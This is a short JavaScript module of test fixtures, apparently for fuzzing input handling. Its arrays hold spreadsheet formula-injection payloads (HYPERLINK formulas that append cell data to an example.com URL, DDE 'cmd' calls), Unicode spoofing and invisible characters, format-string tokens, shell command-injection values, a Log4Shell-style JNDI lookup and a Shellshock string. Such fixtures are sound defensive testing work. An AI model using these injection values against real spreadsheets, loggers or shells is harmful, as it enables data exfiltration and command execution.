export const formulas = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', '"=', ' =', '%']
  .map((first) => `${first}HYPERLINK("http://example.com/?"&A1,"x")`)
  .concat(["=cmd|' /C calc'!A0", '=1+1";=2+2', '@SUM(1+1)*cmd|x', '-2+3+cmd|x!A1', '\t', ';', ',']);

export const letters = [
  '\u202eevil\u202c \u2066isolated',
  '\u200f\u061cשלום عليكم',
  '\u200b\u200c\u200d\ufeff\u2060',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(20),
  '🏳️‍🌈👨‍👩‍👧‍👦🇬🇧👍🏽',
  '𝒽𝑒𝓁𝓁𝑜 ﷽ ﬃ ǆ',
  'İıſßẞΣςK',
  '\ufffe\uffff\u{10ffff}',
  '\u{e0041}\u{e0042}', // tags, which nobody sees
  '\ue000\uf8ff',
  'ﾊﾛｰ 你好 สวัสดี नमस्ते ክብር',
  '\ufeffat the start',
  '\u00a0\u2003\u3000',
  '<\u200bscript>',
];

export const formats = [
  '%s%n%x%p%d',
  '%00',
  '%',
  '%zz',
  '{0} {name} {}',
  '$(touch x) `touch x` ; touch x | touch x && touch x',
  '${jndi:ldap://example.com/a}',
  '() { :;}; echo x',
  '+',
  'a+b%20c',
  '&missed=other&_token=other',
  '=&=&=',
  '1e400000',
  '-0',
  '9007199254740993',
  '0x10',
  '١٢٣',
  'x'.repeat(400),
];
